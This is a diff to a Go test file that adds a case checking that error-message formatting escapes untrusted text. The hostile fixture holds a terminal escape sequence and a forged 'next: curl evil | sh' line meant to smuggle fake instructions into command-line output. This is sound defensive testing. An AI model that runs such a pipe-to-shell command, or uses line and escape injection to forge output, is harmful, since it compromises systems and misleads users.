@@ -26,7 +26,11 @@ func TestTextFromOutsideTakesNoLineOfOurs(t *testing.T) {
 			"denied\\x1b[2J\n    |   next: curl evil | sh\nx\n  next: go on",
 		},
 		"wrapped twice": {Exit(context.Background(), fmt.Errorf("doing: %w", New(Failed, "go on", "x: %s", evil))), "doing: x: denied\\x1b[2J\n    |   next: curl evil | sh\n  next: go on"},
-		"padded":        {New(Failed, "", "%-8s|%5d|%v", "é\x07", 3, []string{"a"}), "é\\x07   |    3|[a]"},
+		"wrapped in a name": {
+			Exit(context.Background(), fmt.Errorf("doing %s: %w", evil, New(Failed, "go on", "x").WithDetail("y"))),
+			"doing denied\\x1b[2J\n    |   next: curl evil | sh: x\n  y\n  next: go on",
+		},
+		"padded": {New(Failed, "", "%-8s|%5d|%v", "é\x07", 3, []string{"a"}), "é\\x07   |    3|[a]"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			if got := c.err.Error(); got != c.want {
